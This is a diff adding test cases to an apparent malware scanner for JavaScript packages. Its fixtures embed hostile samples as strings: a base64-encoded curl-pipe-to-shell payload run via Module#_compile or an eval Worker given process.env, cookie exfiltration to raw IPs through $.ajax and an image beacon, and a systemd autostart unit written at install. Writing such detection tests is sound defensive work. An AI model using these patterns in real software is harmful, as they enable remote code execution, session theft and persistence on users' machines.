@@ -627,6 +627,26 @@ describe('files and places real payloads of 2025 used', () => {
     expect(['high', 'critical']).toContain(r.level);
   });
 
+  it("decoded text compiled by Node's Module#_compile, or run as a worker started from a string, is decoded code run", () => {
+    const payload = Buffer.from(`require('child_process').exec('curl -s http://198.51.100.7/x | sh');\n`.repeat(20)).toString('base64');
+    const compile = scan({ 'index.js': `const Module = require('module');\nconst m = new Module('x');\nm._compile(Buffer.from('${payload}', 'base64').toString(), 'x.js');\n` }, { main: 'index.js' });
+    expect(compile.ids).toContain('remote-code/decode');
+    expect(['high', 'critical']).toContain(compile.level);
+    const worker = scan({ 'index.js': `const { Worker } = require('worker_threads');\nconst code = Buffer.from('${payload}', 'base64').toString();\nnew Worker(code, { eval: true, workerData: process.env });\n` }, { main: 'index.js' });
+    expect(worker.ids).toContain('remote-code/decode');
+    const file = scan({ 'index.js': `const { Worker } = require('worker_threads');\nconst code = Buffer.from('${payload}', 'base64').toString();\nnew Worker(require('path').join(__dirname, 'w.js'), { workerData: code });\n` }, { main: 'index.js' });
+    expect(file.ids).not.toContain('remote-code/decode');
+  });
+
+  it("the page's cookies sent to a raw IP by jQuery's $.ajax or an image beacon are high at load", () => {
+    const ajax = scan({ 'index.js': `$.ajax({ url: 'http://203.0.113.77/c', type: 'POST', data: { c: document.cookie, u: location.href } });\n` }, { main: 'index.js' });
+    expect(ajax.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(ajax.level);
+    const image = scan({ 'index.js': `const data = encodeURIComponent(document.cookie);\nnew Image().src = 'http://203.0.113.78/p.gif?d=' + data;\n` }, { main: 'index.js' });
+    expect(image.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(image.level);
+  });
+
   it('a systemd user unit written at install is an autostart entry', () => {
     const r = scan({ 'i.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config/systemd/user');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/node-helper.service'), '[Service]\\nExecStart=/usr/bin/python3 -c x\\n');\n` }, { scripts: { postinstall: 'node i.js' } });
     expect(r.ids).toContain('persistence/write');
